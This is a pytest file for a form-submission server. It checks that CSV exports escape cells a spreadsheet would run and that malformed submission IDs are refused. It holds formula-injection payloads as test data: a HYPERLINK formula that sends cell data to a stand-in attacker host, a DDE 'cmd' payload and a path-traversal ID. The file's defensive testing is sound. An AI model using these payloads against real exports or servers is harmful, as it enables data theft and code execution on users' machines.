"""What leaks without a request (issue 11): CSV exports a spreadsheet would run, instanceIDs of
any shape, answers that tell another ward's submission from a missing one, the deleted list
across wards, special-category answers in the version diff."""

from __future__ import annotations

import csv
import io

import pytest

from server.auth.permissions import SYSTEM
from server.services import app_users, sessions
from tests.support.collect import Collect
from tests.web.conftest import PNG, review_instance

LIST = "/projects/{p}/forms/review/submissions"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"bấm")'


def bearer(db, make_user, role="admin", **kw) -> dict:
    email = f"{role}-{len(kw)}@example.org"
    make_user(email, role=role, **kw)
    with db.transaction() as session:
        token = sessions.log_in(session, email, "correct horse battery", None).issued.token
    return {"Authorization": f"Bearer {token}"}


def cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_csv_exports_escape_every_cell_a_spreadsheet_would_run(
    app, db, make_user, live_server, review_form, project
):
    with db.transaction() as session:
        phone = app_users.create_app_user(session, SYSTEM, project.id, "@SUM(1+1)", all_forms=True)
    collect = Collect(phone.server_url(live_server), device_id="-2+3+cmd|' /C calc'!A0")
    xml = review_instance("uuid:c1", ho_ten=FORMULA, ghi_chu="x", ma_xa="00004", name="+x")
    assert collect.submit(xml, {"proof.png": PNG})[-1].status == 201
    headers = bearer(db, make_user)
    client = app.test_client()
    header, row = cells(client.get(f"/v1{LIST.format(p=project.id)}.csv", headers=headers))
    by_name = dict(zip(header, row, strict=True))
    assert by_name["ho_ten"] == "'" + FORMULA
    assert by_name["submitterName"] == "'@SUM(1+1)"
    assert by_name["deviceID"] == "'-2+3+cmd|' /C calc'!A0"
    assert by_name["instanceID"] == "uuid:c1"
    assert by_name["ma_xa"] == "00004"
    starts = [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert starts == []
    audit = cells(client.get("/v1/audits.csv", headers=headers))
    assert [c for line in audit for c in line if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert any("'@SUM(1+1)" in c for line in audit for c in line)


def test_a_plain_number_is_not_escaped():
    from server.services.exports import safe_cell

    assert [safe_cell(v) for v in ("-3", "+84912345678", "-1.5", 7)] == [
        "-3",
        "+84912345678",
        "-1.5",
        7,
    ]
    assert [safe_cell(v) for v in ("-1+1", "=1", "@x", "\tx", "\rx", "+")] == [
        "'-1+1",
        "'=1",
        "'@x",
        "'\tx",
        "'\rx",
        "'+",
    ]


@pytest.mark.parametrize(
    "instance_id",
    [
        '=HYPERLINK("https://evil.example")',
        "uuid;8f9a0c2e-1b3d-4e5f-9a7b-6c5d4e3f2a1b",
        "uuid:../../etc",
        "uuid:a b",
        "visit-1",
        "uuid:" + "a" * 65,
    ],
)
def test_an_instance_id_without_collects_shape_is_refused(
    app, db, make_user, collect, review_form, project, instance_id
):
    reply = collect.submit(review_instance(instance_id), {"proof.png": PNG})[-1]
    assert reply.status == 400
    assert reply.message == (
        "Mã của phiếu này không phải do ODK Collect tạo, nên phiếu không được nhận. Hãy báo "
        "cán bộ kỹ thuật của chương trình. (400.8)"
    )
    api = app.test_client().post(
        f"/v1/projects/{project.id}/forms/review/submissions",
        data=review_instance(instance_id),
        headers={**bearer(db, make_user), "Content-Type": "application/xml"},
    )
    assert api.status_code == 400
    assert api.json["code"] == "400.8"
    assert "instanceID" in api.json["message"]


@pytest.mark.parametrize(
    "instance_id",
    ["uuid:8f9a0c2e-1b3d-4e5f-9a7b-6c5d4e3f2a1b", "8f9a0c2e-1b3d-4e5f-9a7b-6c5d4e3f2a1b"],
)
def test_collects_and_centrals_shapes_are_accepted(collect, review_form, instance_id):
    assert collect.submit(review_instance(instance_id), {"proof.png": PNG})[-1].status == 201


def test_a_deprecated_id_without_collects_shape_is_refused(app_user, live_server, review_form):
    english = Collect(app_user.server_url(live_server), language="en")
    assert english.submit(review_instance("uuid:e1"), {"proof.png": PNG})[-1].status == 201
    edit = review_instance("uuid:e2", deprecated_id="=cmd()")
    reply = english.submit(edit, {"proof.png": PNG})[-1]
    assert reply.status == 400
    assert reply.message.startswith("Unexpected deprecatedID value;")
